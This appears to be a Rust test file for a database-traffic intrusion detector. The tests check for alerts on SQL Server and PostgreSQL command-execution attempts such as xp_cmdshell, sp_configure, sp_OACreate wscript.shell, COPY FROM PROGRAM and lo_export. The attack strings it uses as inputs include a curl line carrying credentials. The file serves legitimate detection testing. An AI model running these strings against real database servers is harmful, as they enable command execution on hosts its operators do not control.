use super::*;
use crate::Outcome;
use crate::testing::{number, object, text as text_of};

/// The attack as a remote procedure call, and the nearest call that is none.
#[test]
fn remote_procedure_calls_are_read_by_name_and_by_text() {
    let pairs = [
        (9_402_002, rpc("xp_cmdshell", &[("", "whoami")]), rpc("sp_helptext", &[("", "xp_cmdshell")])),
        (9_402_002, rpc("[master]..[xp_cmdshell]", &[("", "whoami")]), rpc("[audit]..[note]", &[("", "EXEC xp_cmdshell 'a'")])),
        (9_402_002, rpc("Master.dbo.XP_cmdshell;1", &[("", "dir")]), rpc("master.dbo.xp_cmdshell_audit", &[("", "dir")])),
        (
            9_402_001,
            rpc("sp_configure", &[("", "xp_cmdshell"), ("", "1")]),
            rpc("sp_configure", &[("", "xp_cmdshell"), ("", "0")]),
        ),
        (
            9_402_001,
            rpc("master..sp_configure", &[("@configvalue", "1"), ("@configname", "xp_cmdshell")]),
            rpc("master..sp_configure", &[("@configname", "xp_cmdshell")]),
        ),
        (
            9_402_002,
            rpc("sp_executesql", &[("", "EXEC master..xp_cmdshell @c"), ("", "@c nvarchar(9)"), ("@c", "whoami")]),
            rpc("sp_executesql", &[("", "SELECT @c"), ("", "@c nvarchar(99)"), ("@c", "EXEC master..xp_cmdshell 'a'")]),
        ),
        (
            9_402_002,
            rpc("sp_executesql", &[("", "EXEC @p 'dir'"), ("", "@p sysname"), ("", "xp_cmdshell")]),
            rpc("sp_executesql", &[("", "PRINT @p"), ("", "@p sysname"), ("", "xp_cmdshell")]),
        ),
        (
            9_402_002,
            rpc("sp_prepexec", &[("", ""), ("", "@P1 nvarchar(9)"), ("", "EXEC xp_cmdshell @P1"), ("", "whoami")]),
            rpc("sp_prepexec", &[("", ""), ("", "@P1 nvarchar(9)"), ("", "SELECT @P1"), ("", "xp_cmdshell")]),
        ),
        (
            9_402_005,
            rpc("msdb..sp_add_jobstep", &[("@subsystem", "CmdExec"), ("@command", "whoami")]),
            rpc("msdb..sp_add_jobstep", &[("@subsystem", "TSQL"), ("@command", "DBCC CHECKDB")]),
        ),
        (
            9_402_002,
            rpc("sp_cursoropen", &[("", "0"), ("", "EXEC xp_cmdshell 'a'")]),
            rpc("sp_cursoropen", &[("", "0"), ("", "SELECT 1")]),
        ),
    ];
    for (sid, attack, benign) in pairs {
        let mut server = Server::new("master");
        server.run(std::slice::from_ref(&attack));
        assert_eq!(server.sids(), [sid], "{attack:?}");
        let mut server = Server::new("master");
        server.run(std::slice::from_ref(&benign));
        assert!(server.sids().is_empty(), "{benign:?}");
    }
}

#[test]
fn the_value_of_a_parameter_may_be_a_number_or_bytes() {
    for (value, expected) in [
        (tds::Value::Int(1), true),
        (tds::Value::Bool(true), true),
        (tds::Value::Binary { head: vec![0, 0, 0, 1], len: 4 }, true),
        (tds::Value::Int(0), false),
        (tds::Value::Null, false),
    ] {
        let mut server = Server::new("master");
        let mut call = rpc("sp_configure", &[("", "xp_cmdshell")]);
        call.parameters.push(parameter("", value.clone()));
        server.run(&[call]);
        assert_eq!(!server.sids().is_empty(), expected, "{value:?}");
    }
}

#[test]
fn what_is_bound_is_part_of_the_evidence_and_secrets_are_not() {
    let mut server = Server::new("master");
    server.run(&[rpc(
        "sp_executesql",
        &[("", "EXEC xp_cmdshell @c"), ("", "@c nvarchar(99)"), ("@c", "net use /user:a /pass:hunter2")],
    )]);
    server.batch("EXEC sp_addlogin 'bob','hunter2' EXEC xp_cmdshell 'curl -u bob:hunter2 http://a/'");
    for found in server.flow.alerts(9_402_002) {
        assert!(!format!("{found:?}").contains("hunter2"), "{found:?}");
        assert!(!String::from_utf8_lossy(&found.excerpt).contains("hunter2"));
        assert!(!text_of(&object(&found.context, "tds"), "command").is_empty());
    }
    assert_eq!(server.flow.alerts(9_402_002).len(), 2);
}

#[test]
fn prepared_statements_are_told_when_they_run() {
    let prepare = rpc("sp_prepare", &[("", ""), ("", "@c varchar(9)"), ("", "EXEC xp_cmdshell @c")]);
    let mut run = rpc("sp_execute", &[("", "1"), ("", "whoami")]);
    (run.text, run.prepared) = (Some("EXEC xp_cmdshell @c".to_owned()), true);
    let mut server = Server::new("master");
    server.run(std::slice::from_ref(&prepare));
    assert!(server.sids().is_empty(), "nothing ran yet");
    server.run(&[run]);
    assert_eq!(server.sids(), [9_402_002]);
    assert_eq!(text_of(&object(&server.flow.alerts(9_402_002)[0].context, "tds"), "command"), "whoami");
    server.flow.end();
    assert_eq!(server.sids(), [9_402_002], "one cause");
    // The text of what runs was not seen.
    let mut server = Server::new("master");
    server.run(std::slice::from_ref(&prepare));
    server.run(&[rpc("sp_execute", &[("", "1"), ("", "whoami")])]);
    assert_eq!(server.sids(), [9_402_002]);
    // It never ran.
    let mut server = Server::new("master");
    server.run(&[prepare]);
    server.flow.end();
    assert_eq!(server.flow.outcomes(9_402_002), [Outcome::Attempt]);
}

#[test]
fn postgresql_requests_of_all_kinds() {
    use pgsql::{Kind, Parameter};
    let sids = |kind, text, parameters: &[Parameter], function| {
        let mut server = Server::new("app");
        server.pgsql(kind, text, parameters, function);
        server.sids()
    };
    let text = |text: &str| Parameter::Text(text.to_owned());
    assert_eq!(sids(Kind::SimpleQuery, Some("SELECT 1; COPY t FROM PROGRAM 'id'"), &[], None), [9_402_006]);
    assert_eq!(sids(Kind::Execute, Some("SELECT lo_export(1, $1)"), &[text("/x")], None), [9_402_006]);
    assert!(sids(Kind::Execute, Some("SELECT $1"), &[text("COPY t FROM PROGRAM 'id'")], None).is_empty());
    assert!(sids(Kind::Prepare, Some("SELECT lo_export(1, $1)"), &[], None).is_empty(), "not run yet");
    assert_eq!(sids(Kind::FunctionCall, None, &[text("1"), text("/x")], Some(765)), [9_402_006]);
    assert!(sids(Kind::FunctionCall, None, &[], Some(957)).is_empty(), "lo_open");
    // Words of the other server mean nothing.
    assert!(sids(Kind::SimpleQuery, Some("EXEC xp_cmdshell 'dir'"), &[], None).is_empty());
}

#[test]
fn automation_and_synonyms_are_remembered_over_requests() {
    let mut server = Server::new("master");
    server.batch("DECLARE @o int EXEC sp_OACreate 'wscript.shell', @o OUT SELECT @o");
    assert!(server.sids().is_empty());
    server.batch("EXEC sp_OAMethod 16711422, 'run', null, 'whoami'");
    assert_eq!(server.sids(), [9_402_003]);
    server.batch("CREATE SYNONYM dbo.p FOR master..xp_cmdshell");
    server.batch("EXEC dbo.p 'whoami'");
    assert_eq!(server.sids(), [9_402_003, 9_402_002]);
}

#[test]
fn the_outcome_is_what_the_reply_proves() {
    let outcome = |text: &str, sid, change: &dyn Fn(&mut tds::Reply)| {
        let mut reply = tds::Reply::default();
        change(&mut reply);
        let mut server = Server::new("master");
        server.run_with(&[batch(text)], &reply);
        server.flow.outcomes(sid)
    };
    let shell = "EXEC xp_cmdshell 'dir'";
    assert_eq!(outcome(shell, 9_402_002, &|reply| reply.complete = true), [Outcome::Success]);
    assert_eq!(outcome(shell, 9_402_002, &|reply| reply.failed = true), [Outcome::Attempt]);
    assert_eq!(outcome(shell, 9_402_002, &|_| {}), [Outcome::Unknown]);
    // A later statement of the batch failed on purpose.
    let ran = |reply: &mut tds::Reply| (reply.failed, reply.columns) = (true, vec!["output".to_owned()]);
    assert_eq!(outcome(shell, 9_402_002, &ran), [Outcome::Success]);
    let mut server = Server::new("master");
    let tx_id = server.ask(&[batch(shell)]);
    assert!(server.sids().is_empty(), "waits for its reply");
    server.flow.wait(900);
    assert_eq!(server.flow.outcomes(9_402_002), [Outcome::Unknown]);
    let mut reply = tds::Reply::default();
    reply.complete = true;
    server.tds(tds::Stage::Answered, tx_id, &[batch(shell)], Some(&reply));
    let updates = server.flow.updates(9_402_002);
    assert_eq!((updates.len(), updates[0].outcome), (1, Outcome::Success));
}

#[test]
fn storms_are_bounded_and_counted() {
    let mut server = Server::new("VeeamBackup");
    for number in 0..2_000 {
        server.batch(&format!("EXEC xp_cmdshell 'dir {number}'"));
        server.ask(&[batch(&format!("SELECT {number} FROM Credentials"))]);
    }
    server.flow.end();
    assert_eq!(server.flow.alerts(9_402_002).len(), server.flow.config.max_per_flow);
    assert_eq!(server.flow.alerts(9_402_007).len(), server.flow.config.max_per_flow);
    let updates = server.flow.updates(9_402_002);
    assert_eq!(number(&object(&updates[0].context, "tds"), "count"), Some(2_000));
    assert!(server.flow.out.findings.len() < 80);
}

/// Conversations recorded from real clients.
#[test]
fn recorded_conversations() {
    for (name, expected) in [
        ("tds_benign_0", &[][..]),
        ("tds_benign_1", &[]),
        ("tds_benign_2", &[]),
        ("tds_cmdshell_0", &[9_402_001, 9_402_002, 9_403_003]),
        ("tds_cmdshell_1", &[9_402_001, 9_402_002, 9_403_003]),
        ("pgsql_benign_0", &[]),
        ("pgsql_credentials_0", &[9_402_007]),
    ] {
        for piece in [7, 100_000] {
            let mut flow = Flow::default();
            flow.replay(name, piece);
            let mut sids = flow.admitted_sids();
            sids.sort_unstable();
            sids.dedup();
            assert_eq!(sids, expected, "{name}");
        }
    }
}
